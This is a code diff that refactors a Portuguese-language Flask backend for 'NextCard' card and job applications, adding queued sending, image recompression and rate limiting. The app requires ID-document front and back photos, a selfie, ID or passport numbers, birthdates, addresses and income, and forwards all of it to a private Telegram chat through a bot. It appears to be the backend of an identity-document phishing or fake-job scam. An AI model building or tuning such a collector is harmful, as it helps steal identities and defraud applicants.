@@ -1,41 +1,74 @@
-from flask import Flask, request, jsonify, send_from_directory
+from flask import Flask, request
 import requests
-import json
-import base64
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
+import orjson
+import pybase64
 import os
 import logging
+from logging.handlers import QueueHandler, QueueListener
+import atexit
 from io import BytesIO
-from PIL import Image
+from PIL import Image, ImageOps
 from flask_cors import CORS
 from dotenv import load_dotenv
+from whitenoise import WhiteNoise
 import re
 from datetime import datetime, date
 from flask_limiter import Limiter
 from flask_limiter.util import get_remote_address
 import secrets
+import queue
+import threading
+import gevent
+from gevent import monkey
+import time
+
+# Configuração de logging: as requisições só enfileiram os registros e
+# uma thread do QueueListener faz a escrita no console e em disco.
+# Nos workers gevent essa "thread" é um greenlet do mesmo hub, então a
+# escrita continua no loop de eventos; apenas sai do caminho da requisição
+log_queue = queue.Queue(-1)
+log_listener = QueueListener(
+    log_queue,
+    logging.StreamHandler(),
+    logging.FileHandler('app.log')
+)
 
-# Configuração de logging
 logging.basicConfig(
     level=logging.INFO,
     format='%(asctime)s %(levelname)s %(name)s %(message)s',
-    handlers=[
-        logging.StreamHandler(),
-        logging.FileHandler('app.log')
-    ]
+    handlers=[QueueHandler(log_queue)]
 )
 
+log_listener.start()
+atexit.register(log_listener.stop)
+
 logger = logging.getLogger(__name__)
 
+# Expressões regulares de validação (compiladas uma única vez)
+EMAIL_RE = re.compile(r'^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}$')
+NON_DIGIT_RE = re.compile(r'\D')
+DATA_URI_RE = re.compile(r'data:image/[\w.+-]+;base64,')
+BASE64_RE = re.compile(r'[A-Za-z0-9+/]*={0,2}')
+
 # Carregar variáveis de ambiente
 load_dotenv()
 
 app = Flask(__name__)
 CORS(app)  # Habilita CORS para todas as rotas
 
-# Rate Limiting
+# Arquivos estáticos (HTML, CSS, JS, imagens) servidos pelo WhiteNoise, antes do Flask
+PUBLIC_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'public')
+app.wsgi_app = WhiteNoise(app.wsgi_app, root=PUBLIC_DIR, index_file=True, max_age=3600)
+
+# Rate Limiting (contadores no Redis para serem compartilhados entre os workers)
 limiter = Limiter(
     app=app,
     key_func=get_remote_address,
+    storage_uri=os.getenv('REDIS_URL', 'memory://'),
+    strategy="moving-window",
+    in_memory_fallback_enabled=True,
     default_limits=["200 per day", "50 per hour"]
 )
 
@@ -48,25 +81,157 @@ if not TELEGRAM_BOT_TOKEN or not TELEGRAM_CHAT_ID:
     logger.error("Credenciais do Telegram não encontradas nas variáveis de ambiente")
     raise ValueError("Credenciais do Telegram não encontradas nas variáveis de ambiente")
 
-# Rotas para servir arquivos estáticos
-@app.route('/')
-def serve_index():
-    """Serve o arquivo HTML principal"""
-    return send_from_directory('.', 'index.html')
+# Endpoints e parâmetros fixos da API do Telegram
+TG_SEND_MESSAGE_URL = f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/sendMessage"
+TG_SEND_MEDIA_GROUP_URL = f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/sendMediaGroup"
+TG_BASE_DATA = {"chat_id": TELEGRAM_CHAT_ID}
+
+# Fila de envios: limite de submissões pendentes por processo (cada uma guarda
+# até três JPEGs de 2048 px, alguns MB), tentativas por submissão e tempo
+# máximo de espera no encerramento quando não há prazo do gunicorn
+TELEGRAM_QUEUE_MAXSIZE = 10
+TELEGRAM_SEND_ATTEMPTS = 3
+TELEGRAM_DRAIN_TIMEOUT = 20
+
+# Sessão HTTP compartilhada para reaproveitar conexões TLS com a API do Telegram
+# (novas tentativas apenas em falhas de conexão, para não duplicar mensagens)
+TG_SESSION = requests.Session()
+TG_SESSION.mount("https://", HTTPAdapter(
+    pool_connections=4,
+    pool_maxsize=16,
+    max_retries=Retry(total=2, backoff_factor=0.2)
+))
+
+# Validações específicas para vagas: (campo, mensagem de erro)
+JOB_REQUIRED_FIELDS = (
+    ('firstName', 'Nome é obrigatório'),
+    ('email', 'Email é obrigatório'),
+    ('phone', 'Telefone é obrigatório'),
+    ('country', 'País é obrigatório'),
+    ('employmentStatus', 'Situação de emprego é obrigatória')
+)
+
+# Campos opcionais preenchidos nas candidaturas: (campo, valor padrão)
+JOB_OPTIONAL_DEFAULTS = (
+    ('lastName', 'N/A'),
+    ('addressLine1', 'Não informado - Candidatura Online'),
+    ('city', 'Não informado'),
+    ('state', 'Não informado'),
+    ('postalCode', '00000-000'),
+    ('income', 'Não informado'),
+    ('employmentStatus', 'candidate')
+)
+
+# Validações originais do NextCard: (campo, mensagem de erro)
+NEXTCARD_REQUIRED_FIELDS = (
+    ('firstName', 'Nome é obrigatório'),
+    ('lastName', 'Sobrenome é obrigatório'),
+    ('email', 'Email é obrigatório'),
+    ('phone', 'Telefone é obrigatório'),
+    ('idNumber', 'Número de identificação é obrigatório'),
+    ('birthdate', 'Data de nascimento é obrigatória'),
+    ('country', 'País é obrigatório'),
+    ('addressLine1', 'Endereço é obrigatório'),
+    ('city', 'Cidade é obrigatória'),
+    ('state', 'Estado é obrigatório'),
+    ('postalCode', 'CEP é obrigatório'),
+    ('currency', 'Moeda é obrigatória'),
+    ('income', 'Renda anual é obrigatória'),
+    ('occupation', 'Ocupação é obrigatória'),
+    ('employmentStatus', 'Situação de emprego é obrigatória'),
+    ('cardType', 'Tipo de cartão é obrigatório')
+)
+
+# Fotos obrigatórias em toda submissão, na ordem de validação e envio
+REQUIRED_PHOTO_TYPES = ('front', 'back', 'selfie')
+
+# Modelos das mensagens enviadas ao Telegram
+JOB_MESSAGE_TEMPLATE = """📋 *Nova Candidatura Recebida* 📋
+
+*Informações Pessoais:*
+• Nome: {firstName} {lastName}
+• Email: {email}
+• Telefone: {phone}
+• Celular: {cellphone}
+• País: {country}
+• Nacionalidade: {nationality}
+• Data Nascimento: {birthdate}
+
+*Informações Profissionais:*
+• Área de Interesse: {positionInterest}
+• Situação de Emprego: {employmentStatus}
+• Profissão: {occupation}
+• Salário Atual: {income}
+• Instituições: {institutions}
+• Experiência: {experience}
+• Escolaridade: {education}
+• Idiomas: {languages}
+• Habilidades: {skills}
+
+*Carta de Apresentação:*
+{coverLetter}
+
+*Fotos anexadas:* {photoCount}/3"""
+
+NEXTCARD_MESSAGE_TEMPLATE = """📋 *Nova solicitação de NextCard* 📋
+
+*Informações Pessoais:*
+• Nome: {firstName} {lastName}
+• Email: {email}
+• Telefone: {phone}
+• ID/Passaporte: {idNumber}
+• Data de Nascimento: {birthdate}
+
+*Informações de Endereço:*
+• País: {country}
+• Endereço: {addressLine1}
+• Endereço 2: {addressLine2}
+• Cidade: {city}
+• Estado: {state}
+• Código Postal: {postalCode}
+
+*Informações Financeiras:*
+• Moeda: {currency}
+• Renda Anual: {income}
+• Ocupação: {occupation}
+• Situação de Emprego: {employmentStatus}
+• Tipo de Cartão: {cardType}
+
+*Fotos anexadas:* {photoCount}/3"""
+
+# Valores exibidos na mensagem de candidatura quando o campo não é enviado
+JOB_MESSAGE_DEFAULTS = {
+    'cellphone': 'Não informado',
+    'nationality': 'Não informado',
+    'birthdate': 'Não informado',
+    'positionInterest': 'Não informado',
+    'employmentStatus': 'Não informado',
+    'occupation': 'Não informado',
+    'income': 'Não informado',
+    'institutions': 'Não informado',
+    'experience': 'Não informado',
+    'education': 'Não informado',
+    'languages': 'Não informado',
+    'skills': 'Não informado',
+    'coverLetter': 'Não informada'
+}
+
+class MessageFields(dict):
+    """Campos para format_map; campos ausentes viram string vazia"""
+    def __missing__(self, key):
+        return ''
 
-@app.route('/<path:path>')
-def serve_static(path):
-    """Serve arquivos estáticos (CSS, JS, imagens, etc.)"""
-    return send_from_directory('.', path)
+def json_response(payload, status=200):
+    """Resposta JSON serializada com orjson"""
+    return app.response_class(orjson.dumps(payload), status=status, mimetype='application/json')
 
 def validate_email(email):
     """Valida formato de email"""
-    pattern = r'^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}$'
-    return re.match(pattern, email) is not None
+    return EMAIL_RE.match(email) is not None
 
 def validate_phone(phone):
     """Valida número de telefone"""
-    cleaned = re.sub(r'\D', '', phone)
+    cleaned = NON_DIGIT_RE.sub('', phone)
     return len(cleaned) >= 10  # Mínimo 10 dígitos
 
 def validate_birthdate(birthdate):
@@ -79,69 +244,132 @@ def validate_birthdate(birthdate):
     except ValueError:
         return False
 
-def validate_image_size(image_data, max_size_mb=10):
-    """Valida tamanho da imagem"""
+def validate_image_size(size, max_size_mb=10):
+    """Valida tamanho da imagem (em bytes)"""
     max_size = max_size_mb * 1024 * 1024
-    return len(image_data) <= max_size
+    return size <= max_size
+
+def base64_decoded_size(encoded, start=0):
+    """Calcula o tamanho decodificado de um base64 sem decodificá-lo"""
+    padding = 2 if encoded.endswith('==') else 1 if encoded.endswith('=') else 0
+    return ((len(encoded) - start) * 3 >> 2) - padding
 
 def process_image_data(photo):
     """Processa dados da imagem base64"""
     try:
-        if ',' in photo:
-            image_data = base64.b64decode(photo.split(',')[1])
-        else:
-            image_data = base64.b64decode(photo)
+        # Exigir o prefixo "data:image/...;base64," e localizar o início do conteúdo
+        match = DATA_URI_RE.match(photo)
+        if not match:
+            raise ValueError("Formato de imagem inválido")
+        start = match.end()
+        
+        # Conferir uma amostra do início e do fim antes de decodificar tudo
+        if not (BASE64_RE.fullmatch(photo, start, start + 64)
+                and BASE64_RE.fullmatch(photo, max(start, len(photo) - 64))):
+            raise ValueError("Base64 inválido")
         
-        # Validar tamanho
-        if not validate_image_size(image_data):
+        # Rejeitar imagens grandes antes de decodificar
+        if not validate_image_size(base64_decoded_size(photo, start)):
             raise ValueError("Imagem muito grande")
+        
+        image_data = pybase64.b64decode(photo[start:])
             
         return image_data
     except Exception as e:
         logger.error(f"Erro ao processar imagem: {str(e)}")
         raise
 
+def process_uploaded_image(file):
+    """Valida o tamanho e lê a foto enviada via multipart"""
+    stream = file.stream
+    stream.seek(0, os.SEEK_END)
+    size = stream.tell()
+    stream.seek(0)
+    
+    if not validate_image_size(size):
+        raise ValueError("Imagem muito grande")
+    
+    return stream.read()
+
+def optimize_image(image_data, max_dimension=2048, quality=85, max_pixels=40_000_000):
+    """Reduz e recomprime a foto como JPEG antes do envio"""
+    with Image.open(BytesIO(image_data)) as img:
+        # Rejeitar resoluções enormes (lidas do cabeçalho) antes de decodificar
+        if img.width * img.height > max_pixels:
+            raise ValueError("Resolução da imagem muito alta")
+        
+        # JPEG: decodifica já em escala reduzida quando possível
+        img.draft('RGB', (max_dimension, max_dimension))
+        img = ImageOps.exif_transpose(img)
+        img.thumbnail((max_dimension, max_dimension), Image.Resampling.LANCZOS)
+        if img.mode != 'RGB':
+            img = img.convert('RGB')
+        
+        output = BytesIO()
+        img.save(output, 'JPEG', quality=quality, optimize=True)
+        return output.getvalue()
+
+def run_in_threadpool(func, *args):
+    """Executa trabalho de CPU em uma thread real quando o gevent está ativo"""
+    # Pillow libera o GIL: assim o loop do worker gevent segue atendendo
+    # outras requisições enquanto a foto é recomprimida
+    if not monkey.is_module_patched('threading'):
+        return func(*args)
+
+    # A exceção volta como valor e é relançada no greenlet: se escapasse da
+    # thread, o hub do gevent imprimiria o traceback direto no stderr
+    def call():
+        try:
+            return func(*args), None
+        except Exception as e:
+            return None, e
+
+    result, error = gevent.get_hub().threadpool.apply(call)
+    if error is not None:
+        raise error
+    return result
+
+def load_photo(photo):
+    """Obtém os bytes de uma foto enviada em base64 ou como arquivo"""
+    if isinstance(photo, str):
+        image_data = process_image_data(photo)
+    else:
+        image_data = process_uploaded_image(photo)
+    return run_in_threadpool(optimize_image, image_data)
+
+def send_photos_to_telegram(photo_data):
+    """Envia todas as fotos em um único álbum (sendMediaGroup)"""
+    media = [
+        {"type": "photo", "media": f"attach://{p_type}", "caption": f"Foto do {p_type} do documento"}
+        for p_type, _ in photo_data
+    ]
+    files = {
+        p_type: (f"{p_type}_id.jpg", image_data, "image/jpeg")
+        for p_type, image_data in photo_data
+    }
+    data = {**TG_BASE_DATA, "media": orjson.dumps(media)}
+    
+    photo_response = TG_SESSION.post(TG_SEND_MEDIA_GROUP_URL, files=files, data=data, timeout=30)
+    photo_response.raise_for_status()
+    logger.info(f"Fotos enviadas com sucesso: {', '.join(p_type for p_type, _ in photo_data)}")
+
 def send_to_telegram(message, photo_data=None):
     """Envia mensagem e fotos para o Telegram com tratamento de erros"""
     try:
         # Enviar mensagem de texto
-        text_url = f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/sendMessage"
-        text_payload = {
-            "chat_id": TELEGRAM_CHAT_ID,
-            "text": message,
-            "parse_mode": "Markdown"
-        }
+        text_payload = {**TG_BASE_DATA, "text": message, "parse_mode": "Markdown"}
         
-        response = requests.post(text_url, json=text_payload, timeout=10)
+        response = TG_SESSION.post(TG_SEND_MESSAGE_URL, json=text_payload, timeout=10)
         response.raise_for_status()
         
-        # Enviar fotos se existirem
+        # Enviar fotos em uma única requisição se existirem
         if photo_data:
-            for p_type, photo in photo_data.items():
-                if photo:
-                    try:
-                        image_data = process_image_data(photo)
-                        
-                        # Enviar foto
-                        photo_url = f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/sendPhoto"
-                        files = {
-                            "photo": (f"{p_type}_id.jpg", BytesIO(image_data), "image/jpeg")
-                        }
-                        data = {
-                            "chat_id": TELEGRAM_CHAT_ID,
-                            "caption": f"Foto do {p_type} do documento"
-                        }
-                        
-                        photo_response = requests.post(photo_url, files=files, data=data, timeout=30)
-                        photo_response.raise_for_status()
-                        logger.info(f"Foto {p_type} enviada com sucesso")
-                        
-                    except requests.exceptions.RequestException as e:
-                        logger.error(f"Erro ao enviar foto {p_type} para Telegram: {str(e)}")
-                        continue
-                    except Exception as e:
-                        logger.error(f"Erro ao processar foto {p_type}: {str(e)}")
-                        continue
+            try:
+                send_photos_to_telegram(photo_data)
+            except requests.exceptions.RequestException as e:
+                logger.error(f"Erro ao enviar fotos para Telegram: {str(e)}")
+            except Exception as e:
+                logger.error(f"Erro ao processar fotos: {str(e)}")
         
         logger.info("Mensagem enviada para Telegram com sucesso")
         return True
@@ -153,21 +381,77 @@ def send_to_telegram(message, photo_data=None):
         logger.error(f"Erro inesperado ao enviar para Telegram: {str(e)}")
         return False
 
+def telegram_worker():
+    """Envia para o Telegram as submissões enfileiradas pelo /submit"""
+    while True:
+        application_id, message, photo_data = telegram_queue.get()
+        try:
+            for attempt in range(1, TELEGRAM_SEND_ATTEMPTS + 1):
+                if send_to_telegram(message, photo_data):
+                    logger.info(f"Submissão enviada para Telegram - ID: {application_id}")
+                    break
+                
+                logger.warning(f"Tentativa {attempt}/{TELEGRAM_SEND_ATTEMPTS} de envio falhou - ID: {application_id}")
+                if attempt < TELEGRAM_SEND_ATTEMPTS:
+                    time.sleep(2 ** attempt)
+            else:
+                logger.error(f"Falha ao enviar para Telegram - ID: {application_id}")
+        finally:
+            telegram_queue.task_done()
+
+def drain_telegram_queue(timeout=TELEGRAM_DRAIN_TIMEOUT):
+    """Aguarda o envio das submissões pendentes antes de encerrar o processo"""
+    # Sob o gunicorn, usar apenas o que resta do prazo antes do SIGKILL
+    if shutdown_deadline is not None:
+        deadline = shutdown_deadline
+    else:
+        deadline = time.monotonic() + timeout
+    
+    # Consulta periódica: o queue.Queue da biblioteca padrão não tem join(timeout)
+    while telegram_queue.unfinished_tasks and time.monotonic() < deadline:
+        time.sleep(0.1)
+    
+    if telegram_queue.unfinished_tasks:
+        logger.error(f"Encerrando com {telegram_queue.unfinished_tasks} submissões não enviadas ao Telegram")
+
+# Fila de envios ao Telegram, consumida fora do ciclo da requisição
+# (uma thread por processo; iniciada na importação, após o fork do gunicorn).
+# No encerramento, as submissões pendentes são enviadas antes de sair.
+telegram_queue = queue.Queue(maxsize=TELEGRAM_QUEUE_MAXSIZE)
+
+# Instante (time.monotonic) limite para o encerramento, definido pelo
+# gunicorn_conf.py quando o worker recebe SIGTERM
+shutdown_deadline = None
+threading.Thread(target=telegram_worker, name="telegram-worker", daemon=True).start()
+atexit.register(drain_telegram_queue)
+
 @app.route('/submit', methods=['POST'])
 @limiter.limit("10 per minute")
 def handle_submission():
     try:
-        # Verificar se há dados JSON
-        if not request.is_json:
-            return jsonify({"success": False, "message": "Content-Type must be application/json"}), 400
+        if request.mimetype == 'multipart/form-data':
+            # Fotos enviadas como arquivos, sem a codificação base64
+            form_data = request.form.to_dict()
+            photos = request.files
+        elif request.is_json:
+            try:
+                data = orjson.loads(request.get_data(cache=False))
+            except orjson.JSONDecodeError:
+                return json_response({"success": False, "message": "JSON inválido"}, 400)
             
-        data = request.get_json()
-        
-        if not data:
-            return jsonify({"success": False, "message": "Nenhum dado recebido"}), 400
-        
-        form_data = data.get('formData', {})
-        photos = data.get('photos', {})
+            if not data:
+                return json_response({"success": False, "message": "Nenhum dado recebido"}, 400)
+            
+            if not isinstance(data, dict):
+                return json_response({"success": False, "message": "JSON inválido"}, 400)
+            
+            form_data = data.get('formData', {})
+            photos = data.get('photos', {})
+            
+            if not isinstance(form_data, dict) or not isinstance(photos, dict):
+                return json_response({"success": False, "message": "JSON inválido"}, 400)
+        else:
+            return json_response({"success": False, "message": "Content-Type must be application/json or multipart/form-data"}, 400)
         
         # Log da tentativa de submissão (sem dados sensíveis)
         logger.info(f"Tentativa de submissão recebida - Tipo: {form_data.get('applicationType', 'nextcard')}")
@@ -176,154 +460,88 @@ def handle_submission():
         is_job_application = form_data.get('applicationType') == 'job_application' or form_data.get('cardType') == 'Vaga de Emprego'
         
         if is_job_application:
-            # Validações específicas para vagas
-            required_fields = {
-                'firstName': 'Nome é obrigatório',
-                'email': 'Email é obrigatório',
-                'phone': 'Telefone é obrigatório',
-                'country': 'País é obrigatório',
-                'employmentStatus': 'Situação de emprego é obrigatória'
-            }
+            required_fields = JOB_REQUIRED_FIELDS
             
             # Preencher campos opcionais para vagas
-            optional_fields = {
-                'lastName': 'N/A',
-                'addressLine1': 'Não informado - Candidatura Online',
-                'city': 'Não informado',
-                'state': 'Não informado',
-                'postalCode': '00000-000',
-                'income': 'Não informado',
-                'employmentStatus': 'candidate'
-            }
-            
-            for field, default_value in optional_fields.items():
+            for field, default_value in JOB_OPTIONAL_DEFAULTS:
                 if not form_data.get(field):
                     form_data[field] = default_value
         else:
-            # Validações originais do NextCard
-            required_fields = {
-                'firstName': 'Nome é obrigatório',
-                'lastName': 'Sobrenome é obrigatório',
-                'email': 'Email é obrigatório',
-                'phone': 'Telefone é obrigatório',
-                'idNumber': 'Número de identificação é obrigatório',
-                'birthdate': 'Data de nascimento é obrigatória',
-                'country': 'País é obrigatório',
-                'addressLine1': 'Endereço é obrigatório',
-                'city': 'Cidade é obrigatória',
-                'state': 'Estado é obrigatório',
-                'postalCode': 'CEP é obrigatório',
-                'currency': 'Moeda é obrigatória',
-                'income': 'Renda anual é obrigatória',
-                'occupation': 'Ocupação é obrigatória',
-                'employmentStatus': 'Situação de emprego é obrigatória',
-                'cardType': 'Tipo de cartão é obrigatório'
-            }
+            required_fields = NEXTCARD_REQUIRED_FIELDS
         
         # Aplicar validações dos campos obrigatórios
-        for field, message in required_fields.items():
+        for field, message in required_fields:
             if not form_data.get(field):
                 logger.warning(f"Campo obrigatório faltando: {field}")
-                return jsonify({"success": False, "message": message}), 400
+                return json_response({"success": False, "message": message}, 400)
         
         # Validações específicas
         if not validate_email(form_data.get('email', '')):
-            return jsonify({"success": False, "message": "Email inválido"}), 400
+            return json_response({"success": False, "message": "Email inválido"}, 400)
             
         if not validate_phone(form_data.get('phone', '')):
-            return jsonify({"success": False, "message": "Número de telefone inválido"}), 400
+            return json_response({"success": False, "message": "Número de telefone inválido"}, 400)
         
         # Para NextCard, validar data de nascimento
         if not is_job_application and not validate_birthdate(form_data.get('birthdate', '')):
-            return jsonify({"success": False, "message": "Você deve ter pelo menos 18 anos"}), 400
+            return json_response({"success": False, "message": "Você deve ter pelo menos 18 anos"}, 400)
         
-        # Validar fotos
-        required_photos = ['front', 'back', 'selfie']
-        for photo_type in required_photos:
-            if not photos.get(photo_type):
-                return jsonify({"success": False, "message": f"Foto {photo_type} é obrigatória"}), 400
+        # Validar fotos, guardando os pares (tipo, foto) para envio
+        valid_photos = []
+        for photo_type in REQUIRED_PHOTO_TYPES:
+            photo = photos.get(photo_type)
+            if not photo:
+                return json_response({"success": False, "message": f"Foto {photo_type} é obrigatória"}, 400)
+            valid_photos.append((photo_type, photo))
         
         # Formatando a mensagem baseada no tipo
-        if is_job_application:
-            message = f"""📋 *Nova Candidatura Recebida* 📋
-
-*Informações Pessoais:*
-• Nome: {form_data.get('firstName', '')} {form_data.get('lastName', '')}
-• Email: {form_data.get('email', '')}
-• Telefone: {form_data.get('phone', '')}
-• Celular: {form_data.get('cellphone', 'Não informado')}
-• País: {form_data.get('country', '')}
-• Nacionalidade: {form_data.get('nationality', 'Não informado')}
-• Data Nascimento: {form_data.get('birthdate', 'Não informado')}
-
-*Informações Profissionais:*
-• Área de Interesse: {form_data.get('positionInterest', 'Não informado')}
-• Situação de Emprego: {form_data.get('employmentStatus', 'Não informado')}
-• Profissão: {form_data.get('occupation', 'Não informado')}
-• Salário Atual: {form_data.get('income', 'Não informado')}
-• Instituições: {form_data.get('institutions', 'Não informado')}
-• Experiência: {form_data.get('experience', 'Não informado')}
-• Escolaridade: {form_data.get('education', 'Não informado')}
-• Idiomas: {form_data.get('languages', 'Não informado')}
-• Habilidades: {form_data.get('skills', 'Não informado')}
-
-*Carta de Apresentação:*
-{form_data.get('coverLetter', 'Não informada')}
-
-*Fotos anexadas:* {sum(1 for photo in photos.values() if photo)}/3"""
-        else:
-            message = f"""📋 *Nova solicitação de NextCard* 📋
-
-*Informações Pessoais:*
-• Nome: {form_data.get('firstName', '')} {form_data.get('lastName', '')}
-• Email: {form_data.get('email', '')}
-• Telefone: {form_data.get('phone', '')}
-• ID/Passaporte: {form_data.get('idNumber', '')}
-• Data de Nascimento: {form_data.get('birthdate', '')}
-
-*Informações de Endereço:*
-• País: {form_data.get('country', '')}
-• Endereço: {form_data.get('addressLine1', '')}
-• Endereço 2: {form_data.get('addressLine2', '')}
-• Cidade: {form_data.get('city', '')}
-• Estado: {form_data.get('state', '')}
-• Código Postal: {form_data.get('postalCode', '')}
-
-*Informações Financeiras:*
-• Moeda: {form_data.get('currency', '')}
-• Renda Anual: {form_data.get('income', '')}
-• Ocupação: {form_data.get('occupation', '')}
-• Situação de Emprego: {form_data.get('employmentStatus', '')}
-• Tipo de Cartão: {form_data.get('cardType', '')}
-
-*Fotos anexadas:* {sum(1 for photo in photos.values() if photo)}/3"""
+        fields = MessageFields(JOB_MESSAGE_DEFAULTS if is_job_application else {})
+        fields.update(form_data)
+        fields['photoCount'] = len(valid_photos)
         
-        # Enviar para o Telegram
-        success = send_to_telegram(message, photos)
+        template = JOB_MESSAGE_TEMPLATE if is_job_application else NEXTCARD_MESSAGE_TEMPLATE
+        message = template.format_map(fields)
         
-        if success:
-            prefix = "JH" if is_job_application else "NC"
-            application_id = f"{prefix}{secrets.token_hex(4).upper()}"
-            
-            logger.info(f"Submissão bem-sucedida - ID: {application_id}")
-            
-            return jsonify({
-                "success": True, 
-                "message": "Dados enviados com sucesso",
-                "applicationId": application_id
-            })
-        else:
-            logger.error("Falha ao enviar para Telegram")
-            return jsonify({"success": False, "message": "Erro ao enviar para o Telegram"}), 500
+        # Fila cheia: recusar antes de gastar CPU decodificando as fotos
+        if telegram_queue.full():
+            logger.error("Fila de envio para o Telegram cheia")
+            return json_response({"success": False, "message": "Servidor ocupado. Tente novamente em instantes."}, 503)
+        
+        # Decodificar as fotos agora: a requisição termina antes do envio
+        photo_data = []
+        for photo_type, photo in valid_photos:
+            try:
+                photo_data.append((photo_type, load_photo(photo)))
+            except Exception as e:
+                logger.warning(f"Foto {photo_type} inválida: {str(e)}")
+                return json_response({"success": False, "message": f"Foto {photo_type} inválida"}, 400)
+        
+        prefix = "JH" if is_job_application else "NC"
+        application_id = f"{prefix}{secrets.token_hex(4).upper()}"
+        
+        # Enfileirar o envio para o Telegram e responder imediatamente
+        try:
+            telegram_queue.put_nowait((application_id, message, photo_data))
+        except queue.Full:
+            logger.error("Fila de envio para o Telegram cheia")
+            return json_response({"success": False, "message": "Servidor ocupado. Tente novamente em instantes."}, 503)
+        
+        logger.info(f"Submissão recebida - ID: {application_id}")
+        
+        return json_response({
+            "success": True, 
+            "message": "Dados recebidos com sucesso",
+            "applicationId": application_id
+        })
             
     except Exception as e:
         logger.error(f"Erro interno do servidor: {str(e)}", exc_info=True)
-        return jsonify({"success": False, "message": "Erro interno do servidor"}), 500
+        return json_response({"success": False, "message": "Erro interno do servidor"}, 500)
 
 @app.route('/health', methods=['GET'])
 def health_check():
     """Endpoint para verificar se o servidor está funcionando"""
-    return jsonify({
+    return json_response({
         "status": "healthy", 
         "message": "Server is running",
         "timestamp": datetime.now().isoformat()
@@ -331,18 +549,18 @@ def health_check():
 
 @app.errorhandler(429)
 def ratelimit_handler(e):
-    return jsonify({
+    return json_response({
         "success": False, 
         "message": "Muitas requisições. Tente novamente mais tarde."
-    }), 429
+    }, 429)
 
 @app.errorhandler(500)
 def internal_error_handler(e):
     logger.error(f"Erro 500: {str(e)}")
-    return jsonify({
+    return json_response({
         "success": False, 
         "message": "Erro interno do servidor"
-    }), 500
+    }, 500)
 
 if __name__ == '__main__':
     port = int(os.environ.get("PORT", 5000))